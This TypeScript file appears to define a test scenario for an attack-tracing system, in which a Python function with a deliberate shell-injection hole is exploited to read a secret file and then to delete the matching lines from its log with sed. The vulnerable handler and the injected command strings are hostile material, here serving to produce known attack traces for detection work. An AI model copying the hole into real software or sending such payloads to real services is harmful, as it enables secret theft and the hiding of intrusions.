/**
 * An attacker reads a secret by an injected command, and then, from another address, removes the lines that tell of it
 * from the function's log, which everybody's requests write to.
 */
import type { Scenario } from '../scenario.ts';
import { functionSteps, gateway, gatewayHost, pythonFunction } from '../service/functions.ts';
import { client, otherClient } from '../stage.ts';

const address = '10.77.0.45';
const path = '/function/lookup';
const log = '/var/log/function.log';
const names = ['anna', 'bertil', 'cecilia', 'david'];
const handler = `import logging, subprocess

def handle(body):
    name = body.decode()
    logging.info("looking up %s", name)
    return subprocess.run(f"grep -h {name} /srv/people", shell=True, capture_output=True, text=True).stdout
`;

export const logTampering: Scenario = {
  name: 'log-tampering',
  title: `lines are removed from a log by a command that a request injects`,
  packages: ['nginx', 'python3'],
  hosts: [
    pythonFunction('lookup', address, handler, {
      'srv/secret': 'the secret of this function\n',
      'srv/people': names.join('\n'),
    }),
    gatewayHost({ lookup: address }),
  ],
  load: {
    visits: names.map((name) => ({
      weight: 1,
      requests: [{ to: [gateway, 80], method: 'POST', path, body: name, status: [200] }],
    })),
    chores: [
      { host: 'lookup', command: ['/bin/sh', '-c', `tail -n 3 ${log} | wc -c; grep -c anna ${log}; true`] },
    ],
  },
  async attack(stage) {
    const ask = (address: string, body: string) =>
      stage.outside.browser(address).ask(gateway, 80, { method: 'POST', path, body });
    const theft = await ask(client, 'anna /srv/people; cat /srv/secret');
    if (!theft.body.includes('the secret')) throw new Error('nothing was read');
    const tampering = await ask(otherClient, `anna /srv/people; sed -i /secret/d ${log}`);
    if (stage.container('lookup').read(log.slice(1)).includes('secret'))
      throw new Error('the log still tells');
    return {
      symptom: log,
      also: ['comm:sed'],
      rootCause: { kind: 'connection', from: tampering.client, to: `${gateway}:80` },
      steps: [
        ...functionSteps('lookup', tampering),
        {
          what: 'its shell',
          at: { kind: 'process', container: 'lookup', words: 'grep -h anna /srv/people; sed' },
        },
        { what: 'the editor', at: { kind: 'process', container: 'lookup', words: 'sed -i /secret/d' } },
        { what: 'the log', at: { kind: 'file', path: log } },
      ],
    };
  },
};
